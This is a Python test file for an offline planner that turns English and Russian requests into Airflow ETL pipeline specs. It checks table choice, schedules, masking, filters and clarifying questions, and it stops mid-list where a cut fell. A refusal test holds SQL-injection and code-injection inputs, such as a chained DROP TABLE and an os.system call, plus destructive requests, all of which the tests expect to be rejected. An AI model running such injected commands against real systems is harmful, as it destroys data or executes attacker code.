"""The offline planner against the shop and clinic catalogs (no servers: catalogs are built from DDL)."""

from __future__ import annotations

import functools
import json
import sys
from pathlib import Path

import pytest

from airflow_ai_etl.catalog import Catalog, ConnectionInfo
from airflow_ai_etl.messages import in_english
from airflow_ai_etl.planning.offline import plan
from airflow_ai_etl.planning.vocabulary import apposition_nominative, place_nominative
from airflow_ai_etl.validation import validate_spec
from tests.catalogs import clinic_catalog, shop_catalog, tables_from_ddl

ROOT = Path(__file__).resolve().parents[2]

SENTENCE = "Загружать данные о продажах из PostgreSQL в ClickHouse ежедневно в 2 часа ночи"


@functools.cache
def clinic() -> Catalog:
    return clinic_catalog()


def fields(text: str, catalog: Catalog | None = None) -> dict:
    outcome = plan(text, catalog or shop_catalog())
    assert outcome.status == "ok", (outcome.questions, outcome.errors)
    spec = outcome.spec.to_json_dict()
    return {
        "table": spec["source"]["table"],
        "source": spec["source"]["conn_id"],
        "target": spec["target"]["conn_id"],
        "target_table": spec["target"]["table"],
        "schedule": spec["schedule"],
        "mode": spec["target"]["mode"],
        "keys": spec["target"]["keys"],
        "incremental": (spec["source"]["incremental"] or {}).get("column"),
        "mask": [c for t in spec["transforms"] if t["type"] == "mask" for c in t["columns"]],
        "columns": spec["source"]["columns"],
        "where": spec["source"]["where"],
        "timezone": spec["timezone"],
        "target_type": spec["target"]["type"],
        "source_type": spec["source"]["type"],
        "dedupe": [c for t in spec["transforms"] if t["type"] == "dedupe" for c in t["columns"]],
    }


def test_the_card_sentence() -> None:
    got = fields(SENTENCE)
    assert got["table"] == "sales"
    assert (got["source"], got["target"]) == ("pg_shop", "clickhouse_default")
    assert got["schedule"] == "0 2 * * *"
    assert got["mode"] == "replace"  # the whole table every night: appending would double it nightly
    spec = plan(SENTENCE, shop_catalog()).spec
    assert spec.request == SENTENCE
    assert spec.dag_id == "sales_pg_shop_to_clickhouse_default"


def test_time_zone_abbreviations() -> None:
    assert fields("load sales to ClickHouse daily at 6 in CET")["timezone"] == "CET"
    assert fields("Load customers to ClickHouse every day at 9 EST")["timezone"] == "America/New_York"
    outcome = plan("load customers to clickhouse daily at 6 CST", shop_catalog())
    assert outcome.status == "needs_clarification"
    assert outcome.questions == ["Which time zone is CST? Name it, e.g. America/Chicago / Asia/Shanghai."]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("copy new orders from Postgres to ClickHouse every hour",
         {"table": "orders", "schedule": "0 * * * *", "incremental": "created_at"}),
        ("Выгружать заказы в кликхаус каждые 15 минут", {"table": "orders", "schedule": "*/15 * * * *"}),
        ("Перезагружать товары полностью каждый день в 6 утра",
         {"table": "products", "mode": "replace", "schedule": "0 6 * * *"}),
        ("Load customers to ClickHouse daily at 3 AM, mask email and phone",
         {"table": "customers", "mask": ["email", "phone"]}),
        ("sync payments hourly and hide card numbers", {"table": "payments", "mask": ["card_number"]}),
        ("Загружать платежи ежечасно, маскировать номера карт",
         {"table": "payments", "mask": ["card_number"]}),
        ("upsert inventory to clickhouse every 2 hours",
         {"table": "inventory", "mode": "upsert", "keys": ["product_id", "warehouse"]}),
        ("Загружать заказы инкрементально по полю updated_at каждые 5 минут в таблицу orders_inc",
         {"incremental": "updated_at", "target_table": "orders_inc", "schedule": "*/5 * * * *"}),
        ("load sales only columns id, amount, region daily at 17:00 UTC",
         {"columns": ["id", "amount", "region"], "schedule": "0 17 * * *", "timezone": "UTC"}),
        ("Load paid orders with total over 1000 into ClickHouse daily",
         {"table": "orders", "where": "status = 'paid' AND total > 1000"}),
        ("copy leads from postgres to clickhouse manually", {"table": "crm.leads", "schedule": None}),
        ("Копировать таблицу crm.leads в ClickHouse вручную",
         {"table": "crm.leads", "target_table": "leads"}),
        ("Загружать продажи в ClickHouse как sales_daily ежедневно", {"target_table": "sales_daily"}),
        ("Синхронизировать пользователей в кликхаус по будням в 9 утра",
         {"table": "users", "schedule": "0 9 * * 1-5"}),
    ],
)  # fmt: skip
def test_requests_become_the_expected_fields(text: str, expected: dict) -> None:
    got = fields(text)
    assert {k: got[k] for k in expected} == expected


@pytest.mark.parametrize(
    ("text", "question_part"),
    [
        ("load table foobar to clickhouse daily", "There is no table 'foobar'"),
        ("Выгружать клиентов в ClickHouse", "Как часто запускать"),
        ("copy customers to clickhouse", "How often should it run"),
        ("Загружать данные в ClickHouse каждый час", "Какую таблицу загружать"),  # asked in Russian
        ("Load orders and customers to clickhouse daily", "Which table should be loaded from pg_shop"),
    ],
)
def test_missing_or_ambiguous_facts_become_questions(text: str, question_part: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "needs_clarification"
    assert outcome.spec is None
    assert any(question_part in q for q in outcome.questions), outcome.questions


def test_two_clickhouse_connections_mean_a_question_listing_both() -> None:
    catalog = shop_catalog((ConnectionInfo("ch_reports", "clickhouse", "Reports"),))
    outcome = plan("load sales to clickhouse daily", catalog)
    assert outcome.status == "needs_clarification"
    assert "clickhouse_default" in outcome.questions[0] and "ch_reports" in outcome.questions[0]
    # ...and naming one by its id or description answers it.
    assert fields("load sales to ch_reports daily", catalog)["target"] == "ch_reports"
    assert fields("load sales to the reports clickhouse daily", catalog)["target"] == "ch_reports"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("drop table sales", "Destructive intent"),
        ("Удалить продажи из PostgreSQL", "Destructive intent"),
        ("truncate orders every day", "Destructive intent"),
        ("load sales; DROP TABLE customers", "Destructive intent"),
        ("load sales daily where 1=1; select * from users", "carries code"),
        ("load sales daily __import__('os').system('id')", "carries code"),
        ("load orders from mysql daily", "no mysql connection"),
        ("напиши стихотворение про осень", "does not look like a data pipeline"),
        ("what's the weather tomorrow?", "does not look like a data pipeline"),
        ("", "empty"),
    ],
)
def test_refusals(text: str, reason: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "rejected"
    assert outcome.spec is None
    assert reason in in_english(outcome.errors[0].message)  # a Russian request is refused in Russian


def test_deduplication_words_are_not_destructive() -> None:
    outcome = plan("Удалить дубли из продаж и загружать ежедневно", shop_catalog())
    assert outcome.status == "ok"
    assert outcome.spec.transforms[0].type == "dedupe"


def test_same_request_same_spec() -> None:
    assert plan(SENTENCE, shop_catalog()).spec == plan(SENTENCE, shop_catalog()).spec


# --- wider understanding ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "table"),
    [
        ("Загружать продажи ежедневно", "sales"),
        ("Выгрузка продаж ежедневно", "sales"),
        ("Данные о продажах грузить ежедневно", "sales"),
        ("Загружать заказы клиентов ежедневно", "orders"),  # head noun first in Russian
        ("Sync customer orders daily", "orders"),  # noun adjunct: head noun last in English
        ("Платежи по заказам грузить ежедневно", "payments"),
        ("Ingest product inventory daily", "inventory"),
    ],
)
def test_tables_by_business_noun_in_any_case_form(text: str, table: str) -> None:
    assert fields(text)["table"] == table


def test_two_unrelated_table_words_are_a_question_not_a_guess() -> None:
    # payments has no customer column: "оплаты клиентов" could be either table.
    outcome = plan("Пусть оплаты клиентов попадают в ClickHouse ежедневно", shop_catalog())
    assert outcome.status == "needs_clarification"
    assert "customers, payments" in outcome.questions[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Каждый час переносить записи на приём в кликхаус", {"table": "appointments"}),
        ("Выгружать визиты пациентов каждые 30 минут", {"table": "visits"}),
        ("Каждые 6 часов загружать результаты анализов пациентов", {"table": "lab.results"}),
        # only the table comment ('Результаты лабораторных анализов') knows this word
        ("Анализы со статусом final переносить каждые 20 минут",
         {"table": "lab.results", "where": "status = 'final'"}),
        ("Load medication orders daily at 4:00", {"table": "prescriptions"}),
        ("Справочник отделений грузить раз в неделю", {"table": "departments", "schedule": "0 0 * * 1"}),
    ],
)  # fmt: skip
def test_second_domain_nouns_and_comments(text: str, expected: dict) -> None:
    got = fields(text, clinic())
    assert {k: got[k] for k in expected} == expected


@pytest.mark.parametrize(
    ("text", "target", "target_type"),
    [
        ("Пациентов из постгреса клиники в отчётный постгрес ежедневно", "pg_reporting", "sql"),
        ("Copy patients to the reporting Postgres every day at 6", "pg_reporting", "sql"),
        ("Load invoices to the reporting database every day at 23:00", "pg_reporting", "sql"),
        ("Выгружать врачей в pg_reporting каждое утро в 8", "pg_reporting", "sql"),
        ("Load visits from the clinic DB to the warehouse every hour", "ch_dwh", "clickhouse"),
    ],
)
def test_target_connections_by_id_type_word_or_description(text: str, target: str, target_type: str) -> None:
    got = fields(text, clinic())
    assert (got["source"], got["target"], got["target_type"]) == ("pg_clinic", target, target_type)


def test_a_postgres_target_that_does_not_exist_is_asked_for() -> None:
    outcome = plan("Load sales to the reporting Postgres daily", shop_catalog())
    assert outcome.status == "needs_clarification"
    assert "no PostgreSQL connection to load into" in outcome.questions[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Every Tuesday at 14:00 copy the products catalog as product_catalog",
         {"target_table": "product_catalog", "table": "products"}),
        ("Клиентов в таблицу dim_customers ежедневно", {"target_table": "dim_customers"}),
        ("Нужна таблица dim_products в ClickHouse из товаров, обновлять раз в сутки целиком",
         {"target_table": "dim_products", "mode": "replace"}),
        ("Load the users table manually", {"target_table": "users", "schedule": None}),
        ("Load CSV files from s3://shop-raw/events/ into ClickHouse table events_raw every hour",
         {"target_table": "events_raw", "source_type": "s3"}),
    ],
)  # fmt: skip
def test_target_table_names(text: str, expected: dict) -> None:
    got = fields(text)
    assert {k: got[k] for k in expected} == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Полная перезаливка клиентов в кликхаус по воскресеньям в 4 утра", {"mode": "replace", "keys": []}),
        ("Snapshot products daily, replacing the table", {"mode": "replace"}),
        ("Move inventory to ClickHouse every 2 hours with upsert on product_id and warehouse",
         {"mode": "upsert", "keys": ["product_id", "warehouse"]}),
        ("Обновлять клиентов в кликхаусе по ключу id ежедневно", {"mode": "upsert", "keys": ["id"]}),
        ("Upsert customers into clickhouse daily at 2am", {"mode": "upsert", "keys": ["id"]}),
        ("Merge products into ClickHouse by sku every 6 hours", {"mode": "upsert", "keys": ["sku"]}),
    ],
)  # fmt: skip
def test_modes_and_keys(text: str, expected: dict) -> None:
    got = fields(text)
    assert {k: got[k] for k in expected} == expected


@pytest.mark.parametrize(
    ("text", "column"),
    [
        ("Every hour, load only new orders to ClickHouse", "created_at"),
        ("Copy changed customers every 30 minutes", "updated_at"),
        ("Загружать только новые продажи каждый час", "sold_at"),
        ("Пополнять таблицу платежей новыми записями по paid_at каждые 10 минут", "paid_at"),
        ("Загрузка заказов со статусом new ежедневно в 21:00", None),  # a filter, not new rows
    ],
)
def test_incremental_columns(text: str, column: str | None) -> None:
    assert fields(text)["incremental"] == column


def test_an_incremental_load_with_two_candidate_columns_asks() -> None:
    outcome = plan("Загружать результаты анализов инкрементально каждый час", clinic())
    assert outcome.status == "needs_clarification"
    assert "collected_at, reported_at" in outcome.questions[0]


@pytest.mark.parametrize(
    ("text", "mask"),
    [
        ("Грузить клиентов ежедневно в 4:00, телефон и почту скрыть", ["phone", "email"]),
        ("Load customers daily at 2am but mask emails, phones and snils", ["email", "phone", "snils"]),
        (
            "Клиентов ежедневно, скрыть персональные данные",
            ["full_name", "email", "phone", "snils", "birth_date"],
        ),
        ("Load users daily, mask email, incrementally by created_at", ["email"]),
        ("Load sales daily", []),
    ],
)
def test_masking(text: str, mask: list[str]) -> None:
    assert fields(text)["mask"] == mask


def test_masking_by_a_distinctive_part_of_a_column_name() -> None:
    got = fields("Ежедневно в 2 ночи грузить пациентов, СНИЛС и паспорт захешировать", clinic())
    assert got["mask"] == ["snils", "passport_number"]


@pytest.mark.parametrize(
    ("text", "columns"),
    [
        ("Hourly sync of inventory, only product_id, warehouse and qty", ["product_id", "warehouse", "qty"]),
        ("Load product prices (id, sku, price only) to clickhouse daily at 6", ["id", "sku", "price"]),
        ("Заливай заказы каждые 20 минут, только id, status и total", ["id", "status", "total"]),
        ("Загружать заказы по полю updated_at ежедневно", None),  # one column to order by, not a subset
    ],
)
def test_column_subsets(text: str, columns: list[str] | None) -> None:
    assert fields(text)["columns"] == columns


def test_an_unknown_column_in_a_subset_is_asked_about() -> None:
    outcome = plan("Load sales daily, only columns id, amount, discount_code", shop_catalog())
    assert outcome.status == "needs_clarification"
    assert "no column 'discount_code'" in outcome.questions[0]


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("Оплаченные заказы переносить в кликхаус ежедневно", "status = 'paid'"),
        ("Заказы с суммой больше 1000 выгружать ежедневно", "total > 1000"),
        ("Продажи с количеством не менее 3 грузить ежедневно", "quantity >= 3"),
        ("I need orders over 500 in ClickHouse, refreshed every 4 hours", "total > 500"),
        ("Copy sales for region north to clickhouse daily", "region = 'north'"),
        ("Выгружай клиентов из города Москва ежедневно", "city = 'Москва'"),
        ("Load leads from the crm schema where source = 'ads' every day", "source = 'ads'"),
        ("Load events of type purchase hourly", "event_type = 'purchase'"),
        ('Load customers where city = "St. John\'s" daily', "city = 'St. John''s'"),  # quote escaped
        ("Load customers with email hashed daily", None),  # personal columns are never filter values
    ],
)
def test_filters_are_safe_sql_over_catalog_columns(text: str, where: str | None) -> None:
    assert fields(text)["where"] == where


def test_a_filter_with_a_negation_is_asked_about() -> None:
    outcome = plan("Счета с суммой меньше 100 не нужны; грузить счета ежедневно", clinic())
    assert outcome.status == "needs_clarification"
    assert "amount < 100" in outcome.questions[0]


def test_deduplication_columns() -> None:
    got = fields("Dedupe appointments by patient_id and scheduled_at and load them daily at 5", clinic())
    assert got["dedupe"] == ["patient_id", "scheduled_at"]


# --- negations: columns left out, rows skipped -----------------------------------------------

CUSTOMER_COLUMNS = [
    "id",
    "full_name",
    "email",
    "phone",
    "snils",
    "birth_date",
    "city",
    "created_at",
    "updated_at",
]


def _all_but(*left_out: str) -> list[str]:
    return [c for c in CUSTOMER_COLUMNS if c not in left_out]


@pytest.mark.parametrize(
    ("text", "columns"),
    [
        ("Copy customers to ClickHouse daily but drop the email column", _all_but("email")),
        ("Load customers every day at 3am without the phone and snils columns", _all_but("phone", "snils")),
        ("sync customers every 30 min, skip snils and birth_date", _all_but("snils", "birth_date")),
        ("Load customers daily, remove phone numbers and emails", _all_but("phone", "email")),
        ("Выгружать клиентов в кликхаус ежедневно, колонку email убрать", _all_but("email")),
        ("Грузи клиентов в CH каждый день без колонок phone и snils", _all_but("phone", "snils")),
        ("Клиентов ежедневно, номера телефонов и даты рождения убрать", _all_but("phone", "birth_date")),
        ("Копировать клиентов ежедневно, удалить колонку email", _all_but("email")),
        ("Load customers daily, remove PII", ["id", "city", "created_at", "updated_at"]),
        ("Выгружать клиентов ежедневно без персональных данных", ["id", "city", "created_at", "updated_at"]),
    ],
)
def test_a_column_left_out_loads_the_other_columns_in_table_order(text: str, columns: list[str]) -> None:
    assert fields(text)["columns"] == columns


@pytest.mark.parametrize(
    "text",
    [
        "drop the customers table",
        "Delete old orders",
        "truncate sales",
        "Удали таблицу клиентов",
        "Load orders daily, delete old rows",
        "Copy customers daily and delete email from postgres",  # the source column itself
        "Загружать заказы ежедневно, старые заказы удалить",
        "Drop the email column from customers",  # no load at all: an order to alter the source
    ],
)
def test_destroying_a_table_rows_or_a_source_column_is_still_refused(text: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "rejected"
    assert "Destructive intent" in in_english(outcome.errors[0].message)


def test_leaving_out_a_column_the_table_lacks_is_asked_about() -> None:
    outcome = plan("Copy orders daily without email", shop_catalog())
    assert outcome.status == "needs_clarification"
    assert "no column 'email'" in outcome.questions[0] and "customer_id" in outcome.questions[0]


def test_leaving_out_the_upsert_key_is_asked_about() -> None:
    outcome = plan("Upsert customers into clickhouse daily, drop id", shop_catalog())
    assert outcome.status == "needs_clarification"
    assert "id of public.customers would be left out" in outcome.questions[0]


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("Load payments into ClickHouse every 15 minutes, skip rows where amount is null", "amount IS NOT NULL"),
        ("Load customers daily, only rows where email is not null", "email IS NOT NULL"),
        ("load customers daily where city is empty", "(city IS NULL OR city = '')"),
        ("Load events hourly, skip events with empty payload", "payload IS NOT NULL"),
        ("Load payments hourly, skip payments without an amount", "amount IS NOT NULL"),
        ("Load payments every hour, ignore payments with no card number",
         "card_number IS NOT NULL AND card_number <> ''"),
        ("Load payments hourly, skip rows where amount is null or card_number is null",
         "amount IS NOT NULL AND card_number IS NOT NULL"),
        ("Грузить клиентов ежедневно, пропускать строки, где email пустой", "email IS NOT NULL AND email <> ''"),
        ("Клиентов в кликхаус каждый час, где телефон заполнен", "phone IS NOT NULL AND phone <> ''"),
        ("Выгружать клиентов, у которых не указан телефон, ежедневно", "(phone IS NULL OR phone = '')"),
        ("Клиентов с пустым городом грузить ежедневно", "(city IS NULL OR city = '')"),
        ("Загружать платежи ежечасно, пропускать платежи без суммы", "amount IS NOT NULL"),
        # a skipped value keeps the rows whose value is unknown
        ("load orders except cancelled ones daily", "status IS DISTINCT FROM 'cancelled'"),
        ("заказы без отменённых грузить ежедневно", "status IS DISTINCT FROM 'cancelled'"),
        ("load unpaid orders hourly", "status IS DISTINCT FROM 'paid'"),
        ("выгружай товары без категории food каждую ночь", "category IS DISTINCT FROM 'food'"),
        ("Load orders daily, skip orders with total under 10", "(total >= 10 OR total IS NULL)"),
        ("Загружать продажи ежедневно, кроме региона north", "region IS DISTINCT FROM 'north'"),
    ],
)  # fmt: skip
def test_null_checks_and_rows_to_skip(text: str, where: str) -> None:
    assert fields(text)["where"] == where


@pytest.mark.parametrize(
    "text",
    [
        # NOT (a AND b) is not an AND of negations
        "Load payments hourly, skip rows where amount is null and card_number is null",
        "Load payments hourly, skip rows with weird data",  # a skip with no condition in it
        "Load sales with status paid daily",  # sales has no status column
        "load customers daily, only region north",  # customers has no region column
        "лиды из crm в кликхаус ежедневно, только web",  # a value with no column
    ],
)
def test_unclear_row_filters_are_asked_about(text: str) -> None:
    assert plan(text, shop_catalog()).status == "needs_clarification"


def test_days_left_out_of_the_schedule_are_not_a_row_filter() -> None:
    got = fields("Выгружать оплаченные заказы ежедневно в 9, кроме выходных")
    assert (got["schedule"], got["where"]) == ("0 9 * * 1-5", "status = 'paid'")


# --- keys, masks and time windows by business words ------------------------------------------


@pytest.mark.parametrize(
    ("text", "keys"),
    [
        ("Sync the inventory table to ClickHouse hourly, upsert by product and warehouse",
         ["product_id", "warehouse"]),
        ("Остатки синхронизировать в кликхаус каждый час, upsert по товару и складу", ["product_id", "warehouse"]),
        ("upsert sales by order and product every hour", ["order_id", "product_id"]),
        ("Upsert sales by id into ClickHouse every 10 min", ["id"]),
    ],
)  # fmt: skip
def test_upsert_keys_by_business_word_resolve_to_id_columns(text: str, keys: list[str]) -> None:
    got = fields(text)
    assert (got["mode"], got["keys"]) == ("upsert", keys)


@pytest.mark.parametrize(
    "text",
    [
        "Every night at 01:15 load orders with status paid to ClickHouse, mask customer emails",
        "Каждую ночь в 1:15 грузить оплаченные заказы в кликхаус, замаскировать email клиентов",
        "Заказы грузить ежедневно, телефоны покупателей скрыть",
    ],
)
def test_masking_a_column_the_table_lacks_asks_and_never_masks_another(text: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "needs_clarification", outcome.spec
    assert any(
        part in outcome.questions[0]
        for part in ("public.orders has no column", "В public.orders нет колонки")
    )
    assert "customer_id, status, total" in outcome.questions[0]


@pytest.mark.parametrize(
    ("text", "where", "keys"),
    [
        ("Выгрузи продажи за последние 7 дней в ClickHouse каждый день в полночь",
         "sold_at >= now() - interval '7 days'", ["id"]),
        ("load orders from the last 24 hours to clickhouse every hour",
         "created_at >= now() - interval '24 hours'", ["id"]),
        ("Load yesterday's sales to clickhouse every day at 1am",
         "sold_at >= current_date - 1 AND sold_at < current_date", ["id"]),
        ("Грузить заказы за вчера в кликхаус ежедневно в 3 ночи",
         "created_at >= current_date - 1 AND created_at < current_date", ["id"]),
        ("сегодняшние заказы грузить в кликхаус каждые 30 минут", "created_at >= current_date", ["id"]),
        ("inventory for today every hour", "updated_at >= current_date", ["product_id", "warehouse"]),
        ("customers updated in the last hour, hourly", "updated_at >= now() - interval '1 hour'", ["id"]),
        ("Загружать события за последний час каждый час", "occurred_at >= now() - interval '1 hour'", ["id"]),
        ("Load customers updated since yesterday every hour", "updated_at >= current_date - 1", ["id"]),
    ],
)  # fmt: skip
def test_a_rolling_window_filters_on_event_time_and_upserts(text: str, where: str, keys: list[str]) -> None:
    got = fields(text)
    assert (got["where"], got["mode"], got["keys"]) == (where, "upsert", keys)


def test_a_window_with_new_rows_or_a_full_reload_keeps_its_mode() -> None:
    assert fields("new orders for the last 7 days every hour")["mode"] == "append"
    assert fields("Reload sales for the last 7 days fully every night at 2")["mode"] == "replace"


def test_a_window_without_a_key_asks_for_one() -> None:
    ddl = "CREATE TABLE public.clicks (user_id bigint, url text, clicked_at timestamp);"
    catalog = shop_catalog()
    catalog.tables["pg_shop"] = [*catalog.tables["pg_shop"], *tables_from_ddl(ddl)]
    outcome = plan("Load clicks for the last 7 days to clickhouse daily", catalog)
    assert outcome.status == "needs_clarification"
    assert "key columns identify a row of public.clicks" in outcome.questions[0]


@pytest.mark.parametrize(
    "text",
    [
        "load sales last week daily",  # the calendar week or the last seven days?
        "Выгружать платежи за прошлую неделю по понедельникам",
        "Load sales for the last few days every day",
        "Load sales today at 5pm",  # one run today, not every day
    ],
)
def test_unclear_time_windows_are_asked_about(text: str) -> None:
    assert plan(text, shop_catalog()).status == "needs_clarification"


def test_new_conditions_pass_every_gate_before_rendering() -> None:
    requests = [
        "Выгрузи продажи за последние 7 дней в ClickHouse каждый день в полночь",
        "Load yesterday's sales to clickhouse every day at 1am",
        "Load payments into ClickHouse every 15 minutes, skip rows where amount is null",
        "load orders except cancelled ones daily",
        "Load orders daily, skip orders with total under 10",
        "Load sales daily, skip rows where amount between 1 and 5",
        "Copy customers to ClickHouse daily but drop the email column",
    ]
    catalog = shop_catalog()
    for text in requests:
        spec, problems = validate_spec(plan(text, catalog).spec, catalog)
        assert spec is not None and problems == [], (text, problems)


# --- places, rows removed from a load, empty text ----------------------------------------------


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("Загружать клиентов из Москвы в ClickHouse каждый день", "city = 'Москва'"),
        ("Загружать клиентов в Казани ежедневно", "city = 'Казань'"),
        ("Клиентов из Санкт-Петербурга грузить в кликхаус ежедневно", "city = 'Санкт-Петербург'"),
        ("Загружать клиентов из Ростова-на-Дону ежедневно", "city = 'Ростов-на-Дону'"),
        ("Загружать клиентов в Москве ежедневно", "city = 'Москва'"),
        ("load customers from Berlin to ClickHouse daily", "city = 'Berlin'"),
        ("Copy customers from New York into ClickHouse every hour", "city = 'New York'"),
        ("Load customers from the city of Hamburg daily", "city = 'Hamburg'"),
        ("Load sales from Berlin daily", "region = 'Berlin'"),
        # a negated place keeps the rows whose city is unknown
        ("Load customers except those from Berlin daily", "city IS DISTINCT FROM 'Berlin'"),
        ("Грузить клиентов, кроме клиентов из Москвы, ежедневно", "city IS DISTINCT FROM 'Москва'"),
        ("Загружать клиентов не из Москвы ежедневно", "city IS DISTINCT FROM 'Москва'"),
    ],
)
def test_a_named_place_filters_the_tables_one_place_column(text: str, where: str) -> None:
    assert fields(text)["where"] == where


def test_a_place_keeps_the_schedule_time_zone_and_the_load_mode() -> None:
    got = fields("Загружать клиентов из Москвы ежедневно в 9 по Москве")
    assert (got["where"], got["schedule"], got["timezone"]) == (
        "city = 'Москва'",
        "0 9 * * *",
        "Europe/Moscow",
    )
    assert fields("load customers from New York daily")["incremental"] is None  # "New" is no new rows


@pytest.mark.parametrize(
    "text",
    [
        "Загружать клиентов из PostgreSQL в ClickHouse ежедневно",
        "Загружать клиентов из таблицы customers в ClickHouse ежедневно",
        "Клиентов из Постгреса в Кликхаус грузить ежедневно",
        "Load customers from Postgres to ClickHouse daily",
        "Load customers from the customers table to ClickHouse daily",
        "Copy customers from shop to ClickHouse every day",
        "Load customers from the Shop database to ClickHouse daily",
        "Load customers to ClickHouse daily at 9 in Europe/Berlin time",
        "Load customers daily at 9 in Moscow time",
        "Load customers from Monday to Friday at 6",
        "Загружать клиентов из МИС ежедневно",  # an acronym
    ],
)
def test_sources_targets_and_times_after_from_or_in_are_not_places(text: str) -> None:
    assert fields(text)["where"] is None


@pytest.mark.parametrize(
    ("text", "question_part"),
    [
        ("Загружать клиентов в Берлине ежедневно", "имеется в виду под 'в Берлине'"),  # Берлин or Берлина?
        ("Загружать клиентов из Нижнего Новгорода ежедневно", "в виду под 'из Нижнего Новгорода'"),
        ("Загружать клиентов из г. Москва ежедневно", "имеется в виду под 'из г. Москва'"),
        ("Загружать клиентов в Москву ежедневно", "имеется в виду под 'в Москву'"),  # where to, not where
        ("Load orders from Berlin daily", "public.orders has no city, region or country column"),
        ("Пациентов из Москвы грузить в ClickHouse ежедневно", "В public.patients нет колонки города"),
        ("load customers from Berlin and Munich daily", "by one city"),
        (
            "Load customers from Berlin where city is empty daily",
            "another condition on public.customers.city",
        ),
    ],
)
def test_places_that_cannot_be_placed_are_asked_about(text: str, question_part: str) -> None:
    outcome = plan(text, clinic() if "Пациентов" in text else shop_catalog())
    assert outcome.status == "needs_clarification", outcome.spec
    assert any(question_part in q for q in outcome.questions), outcome.questions


def test_place_columns_by_name_or_comment_and_several_are_asked_about() -> None:
    ddl = """
    CREATE TABLE public.stores (id bigint PRIMARY KEY, gorod text, region_id bigint);
    COMMENT ON COLUMN public.stores.gorod IS 'Город магазина';
    CREATE TABLE public.branches (id bigint PRIMARY KEY, city text, country text);
    """
    catalog = shop_catalog()
    catalog.tables["pg_shop"] = [*catalog.tables["pg_shop"], *tables_from_ddl(ddl)]
    assert fields("Load stores from Berlin daily", catalog)["where"] == "gorod = 'Berlin'"
    outcome = plan("Load branches from Berlin daily", catalog)
    assert outcome.status == "needs_clarification"
    assert "city, country" in outcome.questions[0]


@pytest.mark.parametrize(
    ("name", "preposition", "nominative"),
    [
        ("Москвы", "из", "Москва"),
        ("Казани", "в", "Казань"),
        ("Санкт-Петербурга", "из", "Санкт-Петербург"),
        ("Ростова-на-Дону", "из", "Ростов-на-Дону"),
        ("России", "в", "Россия"),
        ("Ярославля", "из", "Ярославль"),
        ("Праги", "из", "Прага"),
        ("Омске", "в", "Омск"),
        ("Токио", "из", "Токио"),
        ("Berlin", "в", "Berlin"),
        ("Берлине", "в", None),  # Берлин or Берлина
        ("Сочи", "в", None),  # Сочи or Сочь
        ("Ельца", "из", None),  # Елец: a vowel drops out
        ("Нижнего Новгорода", "из", None),
    ],
)
def test_russian_place_names_in_the_nominative_or_none_when_unsure(
    name: str, preposition: str, nominative: str | None
) -> None:
    assert place_nominative(name, preposition) == nominative


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("load orders to ClickHouse hourly, remove rows where status is test", "status IS DISTINCT FROM 'test'"),
        ("Load orders to ClickHouse hourly without test rows", "status IS DISTINCT FROM 'test'"),
        ("Copy orders to ClickHouse every hour, drop test rows", "status IS DISTINCT FROM 'test'"),
        ("Load orders hourly, delete records where status = 'test'", "status IS DISTINCT FROM 'test'"),
        ("Загружать заказы ежечасно, убрать строки, где статус test", "status IS DISTINCT FROM 'test'"),
        ("Загружать заказы ежечасно, удалить строки, где статус test", "status IS DISTINCT FROM 'test'"),
        ("Грузить заказы в кликхаус каждый час без тестовых записей", "status IS DISTINCT FROM 'test'"),
        ("Заказы в кликхаус ежечасно, тестовые строки убрать", "status IS DISTINCT FROM 'test'"),
        ("Load customers daily, remove rows where city is empty", "city IS NOT NULL AND city <> ''"),
        ("Загружать платежи ежечасно, удалить строки без суммы", "amount IS NOT NULL"),
        ("load orders without cancelled ones daily", "status IS DISTINCT FROM 'cancelled'"),
        ("Отменённые заказы не грузить, остальные в кликхаус ежечасно", "status IS DISTINCT FROM 'cancelled'"),
        ("Load orders to ClickHouse daily as a test", None),  # "test" names no rows here
    ],
)  # fmt: skip
def test_rows_removed_in_a_load_request_are_rows_not_loaded(text: str, where: str | None) -> None:
    assert fields(text)["where"] == where


@pytest.mark.parametrize(
    "text",
    [
        "delete rows from orders where status is test",
        "Remove rows where status is test",  # no load: an order to delete
        "Load orders hourly, delete rows from the orders table where status is test",
        "Load orders hourly, then delete rows where status is test in ClickHouse",
        "удали строки из таблицы заказов, где статус test",
        "Загружать заказы ежечасно, удалить строки в кликхаусе, где статус test",
        "Удалить строки, где статус test",
    ],
)
def test_deleting_rows_in_a_source_or_target_is_still_refused(text: str) -> None:
    outcome = plan(text, shop_catalog())
    assert outcome.status == "rejected"
    assert "Destructive intent" in in_english(outcome.errors[0].message)


@pytest.mark.parametrize(
    "text", ["Load customers hourly without test rows", "Загружать клиентов ежечасно без тестовых записей"]
)
def test_rows_named_by_a_word_no_column_holds_are_asked_about(text: str) -> None:
    assert plan(text, shop_catalog()).status == "needs_clarification"  # customers has no status


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("Load customers daily where city is not empty", "city IS NOT NULL AND city <> ''"),
        ("Load customers daily where city is non-empty", "city IS NOT NULL AND city <> ''"),
        ("Load customers with an empty email daily", "(email IS NULL OR email = '')"),
        ("Load customers daily, skip rows where email is blank", "email IS NOT NULL AND email <> ''"),
        ("Грузить клиентов ежедневно, где город пустой", "(city IS NULL OR city = '')"),
        ("Грузить клиентов ежедневно, где город непустой", "city IS NOT NULL AND city <> ''"),
        ("Грузить клиентов ежедневно, где город не пустой", "city IS NOT NULL AND city <> ''"),
        ("Клиентов с незаполненным телефоном грузить ежедневно", "(phone IS NULL OR phone = '')"),
        # "null" means NULL only; a number or a date has no empty string
        ("Load customers daily where city is null", "city IS NULL"),
        ("Load customers daily where city is not null", "city IS NOT NULL"),
        ("Грузить клиентов ежедневно, где email = null", "email IS NULL"),
        ("Load orders daily where total is empty", "total IS NULL"),
